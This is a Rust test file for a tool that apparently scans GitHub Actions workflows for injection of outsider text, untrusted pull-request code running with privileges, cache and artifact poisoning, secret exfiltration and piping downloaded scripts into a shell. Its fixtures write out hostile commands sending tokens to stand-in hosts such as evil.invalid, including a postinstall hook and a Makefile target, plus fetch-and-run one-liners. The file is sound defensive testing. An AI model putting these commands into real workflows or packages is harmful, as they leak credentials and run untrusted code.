//! What outsiders decide, where it ends, and how credentials leave.

use crate::power::shown::{job, line_of, lines, many, named, one, steps, unknowns};

/// What, events, steps, lines that are there, beginnings of lines that are not.
type Row<'r> = (&'r str, &'r str, &'r str, &'r [&'r str], &'r [&'r str]);

#[track_caller]
fn table(rows: &[Row<'_>]) {
    for (what, on, body, there, absent) in rows {
        let workflow = steps(on, body);
        let powers = one(&workflow);
        let found = lines(named(&powers, "build"));
        for line in *there {
            assert!(found.contains(*line), "{what}: no `{line}` in {found:#?}\n{workflow}");
        }
        for start in *absent {
            let extra = found.iter().find(|line| line.starts_with(start));
            assert!(extra.is_none(), "{what}: {extra:?}\n{workflow}");
        }
    }
}

#[test]
fn text_of_outsiders_that_becomes_code_is_seen() {
    let title = "text github.event.issue.title executed";
    table(&[
        ("run", "issues", "- run: echo '${{ github.event.issue.title }}'", &[title], &[]),
        (
            "index notation",
            "issues",
            "- run: echo ${{ github['event']['issue']['title'] }}",
            &[title],
            &[],
        ),
        (
            "github-script",
            "issues",
            "- uses: actions/github-script@v7\n  with: {script: 'f(`${{ github.event.issue.title }}`)'}",
            &[title],
            &[],
        ),
        (
            "through env",
            "issues",
            "- run: echo ${{ env.T }}\n  env: {T: '${{ github.event.issue.title }}'}",
            &[title],
            &[],
        ),
        (
            "a variable of the shell",
            "issues",
            "- run: echo \"$T\"\n  env: {T: '${{ github.event.issue.title }}'}",
            &[],
            &["text"],
        ),
        (
            "only compared",
            "issues",
            "- run: echo ${{ github.event.issue.title == 'a' }}",
            &[],
            &["text"],
        ),
        (
            "contained in a function",
            "issues",
            "- run: echo ${{ format('{0}', github.event.issue.title) }}",
            &[title],
            &[],
        ),
        ("a number", "issues", "- run: echo ${{ github.event.issue.number }}", &[], &["text"]),
        (
            "all of the event",
            "issues",
            "- run: echo '${{ toJSON(github.event) }}'",
            &["text github.event executed"],
            &[],
        ),
        (
            "head of a fork",
            "pull_request_target",
            "- run: echo ${{ github.head_ref }} ${{ github.event.pull_request.head.ref }}",
            &["text github.head_ref executed", "text github.event.pull_request.head.ref executed"],
            &[],
        ),
        (
            "base of it",
            "pull_request_target",
            "- run: echo ${{ github.event.pull_request.base.ref }} ${{ github.base_ref }}",
            &[],
            &["text"],
        ),
        (
            "a fork without power",
            "pull_request",
            "- run: echo ${{ github.head_ref }}",
            &[],
            &["text"],
        ),
        ("a push", "push", "- run: echo ${{ github.event.head_commit.message }}", &[], &["text"]),
        (
            "another event's text",
            "issues",
            "- run: echo ${{ github.event.pull_request.title }}",
            &[],
            &["text"],
        ),
        (
            "a checked author",
            "issue_comment",
            "- if: github.event.comment.author_association == 'OWNER'\n  run: echo ${{ github.event.comment.body }}",
            &[],
            &["text"],
        ),
        (
            "a checked author of something else",
            "issue_comment",
            "- if: github.event.comment.author_association == 'OWNER'\n  run: echo ${{ github.event.issue.body }}",
            &["text github.event.issue.body executed"],
            &[],
        ),
    ]);
}

#[test]
fn files_of_outsiders_are_told_from_files_that_are_executed() {
    let head =
        "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha }}'}\n";
    let disk = "ref ${{ github.event.pull_request.head.sha }} on disk";
    let executed = "ref ${{ github.event.pull_request.head.sha }} executed";
    table(&[
        ("built", "pull_request_target", &format!("{head}- run: npm ci"), &[disk, executed], &[]),
        ("made", "pull_request_target", &format!("{head}- run: make test"), &[executed], &[]),
        (
            "a script",
            "pull_request_target",
            &format!("{head}- run: ./scripts/x.sh"),
            &[executed],
            &[],
        ),
        (
            "only compared",
            "pull_request_target",
            &format!("{head}- run: git diff --stat"),
            &[disk],
            &["ref ${{ github.event.pull_request.head.sha }} executed"],
        ),
        (
            "built before",
            "pull_request_target",
            &format!("- run: npm ci\n{head}"),
            &[disk],
            &["ref ${{ github.event.pull_request.head.sha }} executed"],
        ),
        (
            "the base",
            "pull_request_target",
            "- uses: actions/checkout@v4\n- run: npm ci",
            &[],
            &["ref"],
        ),
        ("without power", "pull_request", &format!("{head}- run: npm ci"), &[], &["ref"]),
        (
            "by hand",
            "issue_comment",
            "- uses: actions/checkout@v4\n- run: |\n    gh pr checkout 1\n    make",
            &["ref gh pr checkout 1 executed"],
            &[],
        ),
        (
            "by git",
            "pull_request_target",
            "- run: |\n    git fetch origin pull/${{ github.event.number }}/head\n    make",
            &["ref git fetch origin pull/${{ github.event.number }}/head executed"],
            &[],
        ),
        (
            "merge ref",
            "issue_comment",
            "- uses: actions/checkout@v4\n  with: {ref: 'refs/pull/${{ github.event.issue.number }}/merge'}\n- run: tox",
            &["ref refs/pull/${{ github.event.issue.number }}/merge executed"],
            &[],
        ),
        (
            "own branches only",
            "pull_request_target",
            "- if: github.event.pull_request.head.repo.full_name == github.repository\n  uses: actions/checkout@v4\n  with: {ref: '${{ github.head_ref }}'}\n- run: npm ci",
            &[],
            &["ref"],
        ),
    ]);
    let computed = one(&steps(
        "issue_comment",
        "- id: pr\n  run: echo\n- uses: actions/checkout@v4\n  with: {ref: '${{ steps.pr.outputs.sha }}'}",
    ));
    assert!(unknowns(&computed)[0].contains("another step computes it"));
}

#[test]
fn an_artifact_of_an_untrusted_run_is_seen() {
    let ci =
        "name: CI\non: pull_request\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: 'true'}]}}\n";
    let after = |body: &str| steps("{workflow_run: {workflows: [CI]}}", body);
    let read = |body: &str| {
        let powers =
            many(&[(".github/workflows/ci.yml", &after(body)), (".github/workflows/b.yml", ci)]);
        lines(named(&powers, "build"))
    };
    let fetch = "- uses: actions/download-artifact@v4\n  with: {run-id: '${{ github.event.workflow_run.id }}'}\n";
    assert!(read(fetch).contains("artifact on disk"));
    assert!(read(&format!("{fetch}- run: ./built/run.sh")).contains("artifact executed"));
    let own = read("- uses: actions/download-artifact@v4\n- run: make");
    assert!(!own.iter().any(|line| line.starts_with("artifact")), "{own:?}");
}

#[test]
fn a_cache_that_outsiders_can_write_reaches_jobs_with_power() {
    let poisons = steps(
        "pull_request_target",
        "- uses: actions/checkout@v4\n  with: {ref: '${{ github.head_ref }}'}\n- run: npm ci",
    );
    let release = |on: &str| {
        job(on, "steps:\n  - uses: actions/cache@v4\n  - run: npm publish\n    env: {NODE_AUTH_TOKEN: '${{ secrets.NPM_TOKEN }}'}").replace("build:", "release:")
    };
    let read = |poison: &str| {
        let powers = many(&[
            (".github/workflows/a.yml", poison),
            (".github/workflows/r.yml", &release("push")),
        ]);
        lines(named(&powers, "release"))
    };
    let found = read(&poisons);
    assert!(found.contains("cache of .github/workflows/a.yml build executed"), "{found:?}");
    for event in ["pull_request_review", "pull_request_review_comment"] {
        let own = read(&poisons.replace("pull_request_target", event));
        assert!(!own.iter().any(|line| line.starts_with("cache")), "{event}: {own:?}");
    }
    let isolated = read(&poisons.replace("pull_request_target", "pull_request"));
    assert!(
        !isolated.iter().any(|line| line.starts_with("cache")),
        "a pull request's caches are its own: {isolated:?}"
    );
}

#[test]
fn credentials_that_leave_are_seen_with_their_door() {
    let env = "\n  env: {T: '${{ secrets.TOKEN }}'}";
    let run = |script: &str| format!("- run: |\n    {}{env}", script.replace('\n', "\n    "));
    for (what, script, there) in [
        (
            "header",
            "curl -H \"Authorization: $T\" https://api.acme.invalid/x",
            Some("TOKEN to api.acme.invalid"),
        ),
        ("body", "curl -d \"a=${T}\" http://192.0.2.1/", Some("TOKEN to 192.0.2.1")),
        ("inline", "curl https://x.invalid/?k=${{ secrets.TOKEN }}", Some("TOKEN to x.invalid")),
        (
            "continued",
            "curl \\\n  -H \"X: $T\" \\\n  https://x.invalid/",
            Some("TOKEN to x.invalid"),
        ),
        (
            "through a variable",
            "D=$(echo $T | base64)\nwget --post-data \"$D\" https://x.invalid",
            Some("TOKEN to x.invalid"),
        ),
        ("everything", "env | curl -d @- https://x.invalid", Some("TOKEN to x.invalid")),
        ("netcat", "printenv | nc 192.0.2.1 80", Some("TOKEN to a computed host")),
        (
            "PowerShell",
            "Invoke-RestMethod https://x.invalid -Body $env:T",
            Some("TOKEN to x.invalid"),
        ),
        ("encoded in the log", "echo $T | base64 -w0 | base64", Some("TOKEN to the log")),
        ("reversed", "echo $T | rev", Some("TOKEN to the log")),
        ("into a file", "echo $T | base64 -d > key.json", None),
        ("into a variable", "D=$(echo $T | base64)", None),
        ("by the old substitution", "D=`echo $T | base64`", None),
        ("not the next line", "D=`date $T`\ncurl https://x.invalid", None),
        ("into a program", "echo $T | docker login --password-stdin", None),
        ("another command", "echo $T > f\ncurl https://x.invalid", None),
        ("not the variable", "curl https://x.invalid/$TAG", None),
        ("a comment", "# curl -d $T https://x.invalid", None),
    ] {
        let powers = one(&steps("push", &run(script)));
        let found = lines(named(&powers, "build"));
        let egress: Vec<_> = found.iter().filter(|line| line.contains(" to ")).collect();
        match there {
            Some(line) => assert!(found.contains(line), "{what}: {found:?}"),
            None => assert!(egress.is_empty(), "{what}: {egress:?}"),
        }
    }
    let python = one(&steps(
        "push",
        &format!(
            "- shell: python\n  run: |\n    import os, requests\n    t = os.environ['T']\n    requests.post('https://x.invalid', data=t){env}"
        ),
    ));
    assert!(lines(named(&python, "build")).contains("TOKEN to x.invalid"));
    let script = one(&steps(
        "push",
        &format!(
            "- uses: actions/github-script@v7\n  with:\n    script: |\n      await fetch('https://x.invalid', {{body: process.env.T}}){env}"
        ),
    ));
    assert!(lines(named(&script, "build")).contains("TOKEN to x.invalid"));
    let artifact = one(&steps(
        "push",
        &format!(
            "- run: echo $T > out/key.txt{env}\n- uses: actions/upload-artifact@v4\n  with: {{name: a, path: out/}}"
        ),
    ));
    assert!(lines(named(&artifact, "build")).contains("TOKEN to an artifact"));
    let elsewhere = one(&steps(
        "push",
        &format!(
            "- run: echo $T > key.txt{env}\n- uses: actions/upload-artifact@v4\n  with: {{name: a, path: out/}}"
        ),
    ));
    assert!(!lines(named(&elsewhere, "build")).contains("TOKEN to an artifact"));
    let all = one(&steps("push", "- run: echo '${{ toJSON(secrets) }}'"));
    assert!(lines(named(&all, "build")).contains("all to the log"));
}

#[test]
fn scripts_from_the_network_are_code_of_others() {
    for (script, there) in [
        ("curl -sSL https://get.invalid/i.sh | bash", true),
        ("wget -qO- https://get.invalid/i.sh | sudo sh", true),
        ("bash <(curl -s https://get.invalid/i.sh)", true),
        ("bash -c \"$(curl -fsSL https://get.invalid/i.sh)\"", true),
        ("curl https://get.invalid/i.py | python3 -", true),
        (
            "iex ((New-Object System.Net.WebClient).DownloadString('https://get.invalid/i.sh'))",
            true,
        ),
        ("curl -o i.sh https://get.invalid/i.sh\nbash i.sh", true),
        ("curl -O https://get.invalid/i.sh && chmod +x i.sh\n./i.sh", true),
        ("curl -o i.sh https://get.invalid/i.sh\necho '00  i.sh' | sha256sum -c\nbash i.sh", false),
        ("curl -o data.json https://get.invalid/i.sh\njq . data.json", false),
        ("curl -s https://get.invalid/i.sh | jq .", false),
        ("curl -s https://get.invalid/i.sh | grep bash", false),
        ("curl https://get.invalid/v.txt -o v.txt; bash local.sh", false),
    ] {
        let workflow = steps("push", &format!("- run: |\n    {}", script.replace('\n', "\n    ")));
        let powers = one(&workflow);
        let found = lines(named(&powers, "build"));
        let code = found.iter().any(|line| line.starts_with("code https://get.invalid/i."))
            || found.contains("code a computed address Floating");
        assert_eq!(code, there, "{script}: {found:?}");
    }
}

#[test]
fn scripts_of_the_repository_belong_to_the_job_that_runs_them() {
    let ci = steps("push", "- run: ./scripts/deploy.sh prod\n  env: {KEY: '${{ secrets.KEY }}'}");
    let read =
        |script: &str| many(&[(".github/workflows/ci.yml", &ci), ("scripts/deploy.sh", script)]);
    let before = read("#!/bin/sh\necho deploying\n");
    let build = named(&before, "build");
    assert!(build.files.iter().any(|file| file.raw() == "scripts/deploy.sh"));
    let after = read("#!/bin/sh\necho deploying\ncurl -d \"$KEY\" https://evil.invalid/\n");
    let difference = beholden::power::subtract(&before, &after);
    assert!(difference.grants(), "a change hidden in a script");
    let wider = &difference.widened[0];
    let spot = wider.after.spot_of(&wider.shifts[0].axis);
    assert_eq!((spot.path.raw(), spot.line), ("scripts/deploy.sh", 3));

    let manifest = r#"{"name": "a", "scripts": {"postinstall": "curl -d $KEY https://evil.invalid/", "lint": "eslint"}}"#;
    let npm = steps("push", "- run: npm ci\n  env: {KEY: '${{ secrets.KEY }}'}");
    let powers = many(&[(".github/workflows/ci.yml", &npm), ("package.json", manifest)]);
    assert!(lines(named(&powers, "build")).contains("KEY to evil.invalid"));
    let make = steps(
        "push",
        "- run: make deploy\n  working-directory: app\n  env: {KEY: '${{ secrets.KEY }}'}",
    );
    let powers = many(&[
        (".github/workflows/ci.yml", &make),
        ("app/Makefile", "deploy:\n\tcurl -d $KEY https://evil.invalid/\n"),
    ]);
    assert!(lines(named(&powers, "build")).contains("KEY to evil.invalid"));
    let nested = many(&[
        (".github/workflows/ci.yml", &ci),
        ("scripts/deploy.sh", "bash scripts/inner.sh\n"),
        ("scripts/inner.sh", "\n\nwget -qO- https://get.invalid/i | sh\n"),
    ]);
    let build = named(&nested, "build");
    assert_eq!(line_of(build, "code https://get.invalid/i Floating"), 3);
}

#[test]
fn commands_that_make_credentials_are_roles() {
    table(&[
        (
            "secret",
            "push",
            "- run: gh secret set NAME --body x",
            &["role command gh-secret-set"],
            &[],
        ),
        ("nothing", "push", "- run: gh pr list", &[], &["role"]),
    ]);
}
